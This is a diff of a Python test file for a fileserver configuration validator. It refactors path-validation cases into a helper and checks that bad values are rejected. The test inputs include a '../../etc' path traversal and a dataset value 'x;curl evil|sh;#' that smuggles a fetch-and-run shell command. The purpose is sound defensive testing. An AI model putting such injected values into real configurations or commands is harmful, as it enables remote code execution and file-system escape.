@@ -63,6 +63,12 @@ def remove_then(rel: str, then):
     return change
 
 
+def stores_path(name: str, path: str, message: str):
+    """A case: the fileserver's second store gets path (as written in YAML) instead of its own."""
+    return (name, replace(FS, "path: /srv/data/personeel", f"path: {path}"),
+            (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", message))
+
+
 # (id, change, expected parts of the one line: file[:line:col], host, variable, message)
 CASES = [
     # --- files that are not what they should be ---------------------------------------------
@@ -123,14 +129,10 @@ CASES = [
     ("undefined-template", write(ZZ, "ivpb_site: \"{{ school_site }}\"\n"),
      (f"{ZZ}:1:1", "host fileserver", "ivpb_site", "school_site")),
     # --- values that would reach a host -----------------------------------------------------
-    ("path-trailing-newline", replace(FS, "path: /srv/data/personeel", 'path: "/srv/data/personeel\\n"'),
-     (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", "control character")),
-    ("path-dotdot", replace(FS, "path: /srv/data/personeel", "path: /srv/data/../../etc"),
-     (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", "normalised path")),
-    ("path-relative", replace(FS, "path: /srv/data/personeel", "path: srv/data/personeel"),
-     (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", "absolute")),
-    ("path-double-slash", replace(FS, "path: /srv/data/personeel", "path: //srv/data/personeel"),
-     (f"{FS}:9:11", "fileserver", "ivpb_stores[1].path", "normalised path")),
+    stores_path("path-trailing-newline", '"/srv/data/personeel\\n"', "control character"),
+    stores_path("path-dotdot", "/srv/data/../../etc", "normalised path"),
+    stores_path("path-relative", "srv/data/personeel", "absolute"),
+    stores_path("path-double-slash", "//srv/data/personeel", "normalised path"),
     ("dataset-shell", replace(FS, "dataset: personeelsdossiers", "dataset: 'x;curl evil|sh;#'"),
      (f"{FS}:8:14", "fileserver", "ivpb_stores[1].dataset", "lower case letters")),
     ("dataset-name-newline", replace(ALL, "  fotos:\n", '  "fotos\\nx":\n'),
